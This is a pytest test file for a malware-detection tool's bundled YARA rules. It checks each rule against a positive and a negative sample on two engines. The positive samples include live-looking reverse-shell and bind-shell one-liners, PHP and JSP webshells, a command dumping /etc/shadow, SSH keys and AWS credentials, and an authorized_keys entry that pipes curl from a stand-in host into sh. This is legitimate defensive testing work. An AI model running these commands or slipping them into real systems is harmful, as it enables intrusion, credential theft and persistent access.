"""The bundled YARA rules on samples built here (never live malware), on both engines."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from drifttools.analysis.classifiers.yara import (
    RulesError,
    bundled_sources,
    compile_rules,
    split_rules,
)

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q"
WALLET = "4" + "A" + "1" * 93


def _elf(*extra: bytes) -> bytes:
    """A 64-bit little-endian ELF header followed by ``extra`` (not runnable: data only)."""
    header = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 2, 62, 1) + b"\0" * 40
    return header + b"".join(extra)


#: rule -> (positive sample, negative sample): the negative is the nearest benign text.
SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "xmrig_miner": (
        b"xmrig 6.21 --donate-level=1 randomx cpu-max-threads-hint",
        b"xmrig is a miner that a blog post mentions once",
    ),
    "stratum_pool_url": (
        b"url=stratum+tcp://pool.example.org:3333",
        b"stratum layers in geology; tcp://pool.example.org:3333",
    ),
    "monero_wallet_and_pool": (
        f'{{"user": "{WALLET}", "pool": "x"}}'.encode(),
        b'{"user": "alice", "pool": "main"}',
    ),
    "reverse_shell_dev_tcp": (
        b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        b"timeout 1 bash -c 'echo > /dev/tcp/db/5432' && echo open",
    ),
    "reverse_shell_one_liners": (
        b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
        b"nc -z db 5432 && echo ready",
    ),
    "bind_shell": (
        b"nc -lvp 4444 -e /bin/sh",
        b"nc -l -p 8080 > upload.bin",
    ),
    "php_webshell": (
        b"<?php system($_GET['cmd']); ?>",
        b"<?php echo htmlspecialchars($_GET['name']); ?>",
    ),
    "jsp_webshell": (
        b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        b'<% out.println(request.getParameter("name")); %>',
    ),
    "offensive_framework_markers": (
        b"meterpreter stage; ReflectiveLoader export",
        b"this image ships metasploit documentation only",
    ),
    "upx_packed_elf": (
        _elf(b"UPX!", b"\0" * 16, b"UPX0\0UPX1\0"),
        _elf(b"plain text section", b"\0" * 16),
    ),
    "network_scanner": (
        b"masscan 0.0.0.0/0 -p22 --rate 100000",
        b"--rate limit of the API is 10 per second",
    ),
    "credential_dumping_script": (
        b"cat /etc/shadow > o; cp ~/.ssh/id_rsa o; cat ~/.aws/credentials >> o",
        b"# this backup job reads /etc/shadow only",
    ),
    "ssh_authorized_keys_backdoor": (
        f'command="curl -s http://x.invalid/p | sh" ssh-ed25519 {KEY} deploy\n'.encode(),
        f'command="/usr/bin/rsync --server" ssh-ed25519 {KEY} backup\n'.encode(),
    ),
    "ssh_key_known_attacker_comment": (
        f"ssh-rsa {KEY} mdrfckr\n".encode(),
        f"ssh-rsa {KEY} alice@laptop\n".encode(),
    ),
    "ld_preload_rootkit": (
        _elf(b"dlsym\0readdir64\0fopen64\0/etc/ld.so.preload\0"),
        _elf(b"dlsym\0readdir64\0"),
    ),
    "ld_preload_file_entries": (
        b"/tmp/.cache/libx.so\n",
        b"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
    ),
}


@pytest.fixture(scope="module", params=["yara-x", "yara-python"])
def ruleset(request: pytest.FixtureRequest):
    return compile_rules(engine=request.param)


def _rules(matches: list[dict]) -> set[str]:
    return {m["rule"] for m in matches}


def test_every_bundled_rule_has_samples() -> None:
    names = {name for source in bundled_sources() for name, _ in split_rules(source.text)[1]}
    assert names == set(SAMPLES)


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_positive_and_negative_samples(ruleset, rule: str) -> None:
    positive, negative = SAMPLES[rule]
    assert rule in _rules(ruleset.scan(positive)), ruleset.engine
    assert rule not in _rules(ruleset.scan(negative)), ruleset.engine


def test_both_engines_give_the_same_matches() -> None:
    x, python = compile_rules(engine="yara-x"), compile_rules(engine="yara-python")
    for rule, samples in SAMPLES.items():
        for sample in samples:
            assert x.scan(sample) == python.scan(sample), rule


def test_a_match_carries_rule_namespace_tags_meta_offsets() -> None:
    data = b"xx stratum+tcp://pool.example.org:3333"
    [match] = compile_rules().scan(data)
    assert match["rule"] == "stratum_pool_url" and match["namespace"] == "miners"
    assert match["tags"] == ["miner"]
    assert match["meta"]["attack"] == "T1496" and match["meta"]["severity"] == "high"
    [hit] = match["strings"]
    assert hit["id"] == "$url" and hit["offset"] == 3
    assert data[hit["offset"] :].startswith(b"stratum+tcp://")


BROKEN = """\
import "math"
rule good_one { strings: $a = "drifttools-good-marker" condition: $a }
rule broken_one { strings: $a = "x" condition: $b }
rule good_two { condition: good_one and math.entropy(0, filesize) >= 0 }
rule syntax_error { strings: $a = "y" condition: $a and and }
"""


@pytest.mark.parametrize("yara_engine", ["yara-x", "yara-python"])
def test_a_broken_rule_is_named_and_the_rest_still_run(tmp_path: Path, yara_engine: str) -> None:
    (tmp_path / "custom.yar").write_text(BROKEN)
    rules = compile_rules([tmp_path], engine=yara_engine)
    assert [(p.rule, p.origin) for p in rules.problems] == [
        ("broken_one", str(tmp_path / "custom.yar")),
        ("syntax_error", str(tmp_path / "custom.yar")),
    ]
    assert all(p.message for p in rules.problems)
    found = _rules(rules.scan(b"drifttools-good-marker"))
    assert found == {"good_one", "good_two"}
    assert "xmrig_miner" in _rules(rules.scan(SAMPLES["xmrig_miner"][0]))  # bundled still run


@pytest.mark.parametrize("yara_engine", ["yara-x", "yara-python"])
def test_no_rule_compiles_is_an_error(tmp_path: Path, yara_engine: str) -> None:
    (tmp_path / "bad.yar").write_text("rule a { condition: $nope }\n")
    with pytest.raises(RulesError, match="no YARA rule compiles"):
        compile_rules([tmp_path / "bad.yar"], engine=yara_engine, bundled=False)
    with pytest.raises(RulesError, match="no such rules"):
        compile_rules([tmp_path / "absent.yar"], engine=yara_engine)


@pytest.mark.parametrize("yara_engine", ["yara-x", "yara-python"])
def test_compiled_once_and_cached_on_disk(tmp_path: Path, yara_engine: str) -> None:
    (tmp_path / "r.yar").write_text(
        f'rule disk_{yara_engine[-1]} {{ strings: $a = "zz9" condition: $a }}'
    )
    first = compile_rules([tmp_path / "r.yar"], engine=yara_engine, cache_dir=tmp_path / "c")
    stored = sorted(p.name for p in (tmp_path / "c" / "yara" / "v2").iterdir())
    assert stored == [f"{yara_engine}-{first.sha256}{s}" for s in (".0.rules", ".json")]
    from drifttools.analysis.classifiers import yara as module

    module._COMPILED.clear()  # a new process: only the disk cache is left
    again = compile_rules([tmp_path / "r.yar"], engine=yara_engine, cache_dir=tmp_path / "c")
    assert again.sha256 == first.sha256
    assert _rules(again.scan(b"..zz9..")) == {f"disk_{yara_engine[-1]}"}
    (tmp_path / "r.yar").write_text('rule other { strings: $a = "q" condition: $a }')
    assert compile_rules([tmp_path / "r.yar"], engine=yara_engine).sha256 != first.sha256


def test_yara_x_scan_timeout_is_recorded(tmp_path: Path) -> None:
    from drifttools.analysis.classifiers.yara import ScanTimeout

    # A condition that loops over every byte pair of a big buffer times out.
    (tmp_path / "slow.yar").write_text(
        "rule slow { condition: for all i in (0..filesize) : "
        "(for all j in (0..filesize) : (uint8(i) != 0xff or uint8(j) != 0xfe)) }"
    )
    slow = compile_rules([tmp_path / "slow.yar"], bundled=False, timeout=1)
    with pytest.raises(ScanTimeout):
        slow.scan(b"\0" * 200_000)
